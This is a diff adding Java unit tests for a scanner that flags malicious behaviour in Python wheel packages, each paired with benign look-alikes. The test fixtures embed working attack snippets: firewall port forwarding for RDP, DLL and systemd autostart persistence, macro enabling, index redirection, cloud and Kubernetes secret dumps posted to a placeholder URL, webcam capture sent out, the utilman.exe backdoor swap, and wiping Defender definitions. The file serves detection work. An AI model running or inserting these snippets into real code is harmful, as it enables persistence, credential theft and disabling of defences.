@@ -2828,6 +2828,149 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/system_info.py", loaderRead))).isEmpty();
   }
 
+  @Test
+  void aForwardedPortOpenedInTheFirewallAndFolderActionsAreHigh() {
+    String proxy =
+        "import subprocess\nsubprocess.run('netsh interface portproxy add v4tov4 listenport=4433 "
+            + "connectport=3389 connectaddress=127.0.0.1', shell=True)\n"
+            + "subprocess.run(['netsh', 'advfirewall', 'firewall', 'add', 'rule', 'name=x', "
+            + "'dir=in', 'action=allow', 'protocol=TCP', 'localport=4433'])\n";
+    String folder =
+        "import subprocess\nsubprocess.run(['osascript', '-e', 'tell application \"System Events\" "
+            + "to attach action to folder (path to downloads folder) using SCRIPT'])\n";
+    String listed =
+        "import subprocess\nsubprocess.run(['netsh', 'interface', 'portproxy', 'show', "
+            + "'all'], capture_output=True)\n";
+    String outbound =
+        "import subprocess\nsubprocess.run(['netsh', 'advfirewall', 'firewall', 'show', 'rule', "
+            + "'name=all', 'dir=in'])\n";
+    String notify =
+        "import subprocess\nsubprocess.run(['osascript', '-e', "
+            + "'display notification \"done\" with title \"build\"'])\n";
+
+    assertThat(levelIn(proxy, "exposes-port-through-firewall")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(folder, "folder-action-attached")).isEqualTo(RiskLevel.HIGH);
+    // the forwarded ports listed, the firewall's rules shown, a notification
+    assertThat(check(wheelWith("pkg/ports.py", listed))).isEmpty();
+    assertThat(check(wheelWith("pkg/fw.py", outbound))).isEmpty();
+    assertThat(check(wheelWith("pkg/notify.py", notify))).isEmpty();
+  }
+
+  @Test
+  void dllsWindowsServicesLoadAndSystemdGeneratorsAreStartUpPlaces() {
+    String monitor =
+        "import winreg\nkey = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, "
+            + "r'SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\Helper')\n"
+            + "winreg.SetValueEx(key, 'Driver', 0, winreg.REG_SZ, 'mon.dll')\n";
+    String time =
+        "import subprocess\nsubprocess.run(['reg', 'add', "
+            + "r'HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\Sync', "
+            + "'/v', 'DllName', '/d', DLL, '/f'])\n";
+    String generator =
+        "import os\nwith open('/etc/systemd/system-generators/zz-gen', 'w') as fh:\n"
+            + "    fh.write(SCRIPT)\nos.chmod('/etc/systemd/system-generators/zz-gen', 0o755)\n";
+    String outlook =
+        "import os, shutil\nshutil.copyfile(PROJECT, os.path.join(os.environ['APPDATA'], "
+            + "'Microsoft', 'Outlook', 'VbaProject.OTM'))\n";
+    String macros =
+        "import winreg\nwith winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
+            + "r'Software\\Microsoft\\Office\\16.0\\Excel\\Security') as key:\n"
+            + "    winreg.SetValueEx(key, 'VBAWarnings', 0, winreg.REG_DWORD, 1)\n";
+    String units =
+        "import subprocess\nsubprocess.run(['systemctl', 'list-units', '--type=service'])\n";
+    String readLevel =
+        "import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+            + "r'Software\\Microsoft\\Office\\16.0\\Excel\\Security') as key:\n"
+            + "    level = winreg.QueryValueEx(key, 'VBAWarnings')[0]\n";
+
+    assertThat(levelIn(monitor, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(time, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(generator, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(outlook, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(macros, "office-macros-enabled")).isEqualTo(RiskLevel.HIGH);
+    // services listed, and Excel's macro setting read
+    assertThat(check(wheelWith("pkg/units.py", units))).isEmpty();
+    assertThat(check(wheelWith("pkg/office.py", readLevel))).isEmpty();
+  }
+
+  @Test
+  void bashEnvAtLogInAndUvPointedElsewhereAreHigh() {
+    String bashEnv =
+        "import os\nwith open(os.path.expanduser('~/.pam_environment'), 'a') as fh:\n"
+            + "    fh.write(f'BASH_ENV DEFAULT={hook}\\n')\n";
+    String uv =
+        "import os\npath = os.path.join(os.path.expanduser('~'), '.config', 'uv', 'uv.toml')\n"
+            + "with open(path, 'w') as fh:\n"
+            + "    fh.write('[[index]]\\nurl = \"https://mirror.example/simple\"\\ndefault = true\\n')\n";
+    String child =
+        "import os, subprocess\n"
+            + "subprocess.run(['bash', 'build.sh'], env=dict(os.environ, BASH_ENV=helpers))\n";
+    String project = "with open('uv.toml') as fh:\n    settings = tomllib.loads(fh.read())\n";
+
+    assertThat(levelIn(bashEnv, "shell-runs-file-at-start")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(uv, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
+    // BASH_ENV given to one child, and uv's settings read
+    assertThat(check(wheelWith("pkg/build.py", child))).isEmpty();
+    assertThat(check(wheelWith("pkg/uvcfg.py", project))).isEmpty();
+  }
+
+  @Test
+  void aClonedInstallerRunAndCloudSecretStoresDumpedAreHigh() {
+    String cloned =
+        "import subprocess\nsubprocess.run(['git', 'clone', '--depth', '1', URL, where])\n"
+            + "subprocess.Popen(['bash', os.path.join(where, 'install.sh')])\n";
+    String dumped =
+        "import boto3, requests\nclient = boto3.client('secretsmanager')\n"
+            + "names = [s['ARN'] for s in client.list_secrets()['SecretList']]\n"
+            + "found = {n: client.get_secret_value(SecretId=n)['SecretString'] for n in names}\n"
+            + "requests.post(URL, json=found)\n";
+    String cluster =
+        "import subprocess, requests\nout = subprocess.run(['kubectl', 'get', 'secrets', '-A', "
+            + "'-o', 'json'], capture_output=True, text=True).stdout\nrequests.post(URL, data=out)\n";
+    String hooks =
+        "import subprocess\nsubprocess.run(('git', 'clone', repo, shadow))\n"
+            + "subprocess.run(['make', '-C', shadow])\n";
+    String settings =
+        "names = [s.name for s in client.list_secrets(parent=project)]\n"
+            + "values = {n: client.access_secret_version(name=n).payload.data for n in names}\n";
+    String pods =
+        "import subprocess, requests\nout = subprocess.run(['kubectl', 'get', 'pods', '-A'], "
+            + "capture_output=True, text=True).stdout\nrequests.post(URL, data=out)\n";
+
+    assertThat(levelIn(cloned, "runs-cloned-installer")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(dumped, "dumps-cloud-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(cluster, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    // a clone built with make, secrets read into settings, and the pods' list sent
+    assertThat(check(wheelWith("pkg/try.py", hooks))).isEmpty();
+    assertThat(check(wheelWith("pkg/settings.py", settings))).isEmpty();
+    assertThat(levelIn(pods, "sends-command-output")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(patternsOf(check(wheelWith("pkg/pods.py", pods)))).doesNotContain("sends-secrets");
+  }
+
+  @Test
+  void anAccessibilityProgramReplacedTheWebcamAndDefenderEmptiedAreCaught() {
+    String utilman =
+        "import os, shutil, subprocess\ntarget = os.path.join(SYSTEM32, 'utilman.exe')\n"
+            + "subprocess.run(['takeown', '/f', target])\n"
+            + "shutil.copyfile(os.path.join(SYSTEM32, 'cmd.exe'), target)\n";
+    String webcam =
+        "import subprocess, requests\nsubprocess.run(['imagesnap', '-q', SHOT])\n"
+            + "requests.post(URL, files={'f': open(SHOT, 'rb')})\n";
+    String defender =
+        "import subprocess\nsubprocess.run([MPCMDRUN, '-RemoveDefinitions', '-All'])\n";
+    String service = "import subprocess\nsubprocess.run(['sc', 'stop', 'WinDefend'])\n";
+    String keyboard = "import subprocess\nsubprocess.Popen('osk.exe')\n";
+    String update = "import subprocess\nsubprocess.run([MPCMDRUN, '-SignatureUpdate'])\n";
+
+    assertThat(levelIn(utilman, "replaces-accessibility-binary")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(webcam, "webcam-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(defender, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(service, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    // the on-screen keyboard opened, and Defender's definitions updated
+    assertThat(check(wheelWith("pkg/kbd.py", keyboard))).isEmpty();
+    assertThat(check(wheelWith("pkg/av.py", update))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
